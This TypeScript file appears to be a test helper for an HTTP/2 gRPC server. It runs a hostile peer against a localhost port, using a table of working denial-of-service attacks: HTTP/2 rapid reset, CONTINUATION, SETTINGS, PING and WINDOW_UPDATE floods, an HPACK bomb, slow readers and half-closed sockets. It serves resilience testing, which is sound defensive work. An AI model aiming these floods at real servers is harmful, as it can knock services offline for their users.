// node hostile-peer.ts ATTACK PORT: attacks until it is killed. Opens another connection when the server closes one.
// Sends its parent a message for each connection.
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { Flag, FrameType } from '../../../src/transport/http2/frames/protocol-constants.ts';
import { encodeHeaders } from '../../../src/transport/http2/hpack/header-encoder.ts';
import {
  callFrames,
  dataFrame,
  encodeUint32,
  frame,
  grpcMessage,
  headersFrame,
  preface,
  requestHeaders,
  resetFrame,
} from '../frame-builders.ts';

const REPETITIONS = 500;

function repeat(createFrames: () => Uint8Array): Buffer {
  return Buffer.concat(Array.from({ length: REPETITIONS }, createFrames));
}

/** Repeats the same bytes. They are prepared once, so that on a small machine the attacker's own work slows nobody. */
function repeatConstant(bytes: Uint8Array): () => Uint8Array {
  const burst = repeat(() => bytes);
  return () => burst;
}

/** Returns a function that yields the stream ids of a client: 1, 3, 5, … */
function createIdSequence(): () => number {
  let id = -1;
  return () => {
    id += 2;
    return id;
  };
}

/** An HPACK bomb: adds a field of almost the size of the table, then refers to it thousands of times in one block. */
function createHpackBomb(): (nextId: () => number) => Buffer {
  const name = Buffer.from('x-bomb');
  const size = Buffer.from([0x7f, 0x80 + ((3900 - 127) & 0x7f), (3900 - 127) >> 7]);
  const insert = Buffer.concat([Buffer.from([0x40, name.length]), name, size, Buffer.alloc(3900, 'a')]);
  const addingBlock = Buffer.concat([requestHeaders(), insert]);
  const bombBlock = Buffer.concat([requestHeaders(), Buffer.alloc(16_000, 0xbe)]);
  return (nextId) =>
    Buffer.concat([callFrames(nextId(), undefined, addingBlock), callFrames(nextId(), undefined, bombBlock)]);
}

interface Attack {
  /** Returns the bytes to send next, again and again. `nextId` yields a new stream id. */
  readonly send: (nextId: () => number) => Uint8Array;
  /** Whether the attacker reads the responses. Default: true. */
  readonly reads?: boolean;
  /** Bytes to send once, right after the preface; they use stream 1. */
  readonly first?: Uint8Array;
  /** Whether the attacker closes its sending side after it has sent once. */
  readonly halfCloses?: boolean;
}

const partOfMessage = grpcMessage(Buffer.alloc(1_000_000)).subarray(0, 16_000);
const hugeValue = encodeHeaders([['x-huge', 'a'.repeat(15_000)]]);

export const ATTACKS: Record<string, Attack> = {
  'rapid reset': {
    send: (nextId) =>
      repeat(() => {
        const id = nextId();
        return Buffer.concat([callFrames(id), resetFrame(id)]);
      }),
  },
  'CONTINUATION flood': {
    first: frame(FrameType.HEADERS, 0, 1, requestHeaders()),
    send: repeatConstant(frame(FrameType.CONTINUATION, 0, 1, Buffer.alloc(100))),
  },
  'HPACK bomb': { send: createHpackBomb() },
  'SETTINGS flood': { send: repeatConstant(frame(FrameType.SETTINGS, 0, 0, Buffer.from([0, 4, 0, 1, 0, 0]))) },
  'PING flood': { send: repeatConstant(frame(FrameType.PING, 0, 0, Buffer.alloc(8))) },
  'PING flood without reading': {
    send: repeatConstant(frame(FrameType.PING, 0, 0, Buffer.alloc(8))),
    reads: false,
  },
  'empty DATA flood': { first: headersFrame(1), send: repeatConstant(dataFrame(1, Buffer.alloc(0), 0)) },
  'one-byte DATA flood': {
    first: Buffer.concat([headersFrame(1), dataFrame(1, grpcMessage(Buffer.alloc(1_000_000)).subarray(0, 5), 0)]),
    send: repeatConstant(dataFrame(1, Buffer.alloc(1), 0)),
  },
  'PRIORITY flood': { send: repeatConstant(frame(FrameType.PRIORITY, 0, 1, Buffer.alloc(5))) },
  'WINDOW_UPDATE flood': {
    first: headersFrame(1),
    send: repeatConstant(frame(FrameType.WINDOW_UPDATE, 0, 1, encodeUint32(1))),
  },
  'a reader that never reads': { send: (nextId) => repeat(() => callFrames(nextId())), reads: false },
  'half-closed sockets': { send: (nextId) => repeat(() => headersFrame(nextId())), halfCloses: true },
  'giant header lists': {
    send: (nextId) =>
      Buffer.concat([
        frame(FrameType.HEADERS, Flag.END_STREAM, nextId(), Buffer.concat([requestHeaders(), hugeValue])),
      ]),
  },
  'malformed requests': {
    send: (nextId) => repeat(() => headersFrame(nextId(), encodeHeaders([['x', '1']]), Flag.END_STREAM)),
  },
  'messages that never come whole': {
    send: (nextId) => {
      const id = nextId();
      return Buffer.concat([headersFrame(id), dataFrame(id, partOfMessage, 0)]);
    },
  },
};

function write(socket: Socket, bytes: Uint8Array): Promise<void> {
  return new Promise((resolve) => {
    if (socket.destroyed) resolve();
    else socket.write(bytes, () => resolve());
  });
}

async function attackOnce(attack: Attack, port: number): Promise<void> {
  const socket = connect({ port, host: '127.0.0.1', noDelay: true, allowHalfOpen: true });
  socket.on('error', () => {});
  if (attack.reads !== false) socket.resume();
  const nextId = createIdSequence();
  await write(socket, preface);
  if (attack.first !== undefined) {
    nextId();
    await write(socket, attack.first);
  }
  process.send?.('attacking');
  if (attack.halfCloses) {
    socket.end(attack.send(nextId));
    await sleep(10);
    return;
  }
  const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
  socket.once('end', () => socket.destroy());
  while (!socket.destroyed) await Promise.race([write(socket, attack.send(nextId)), closed]);
}

const [name = '', port] = process.argv.slice(2);
const attack = ATTACKS[name];
if (attack !== undefined)
  for (;;) {
    await attackOnce(attack, Number(port));
    await sleep(100);
  }
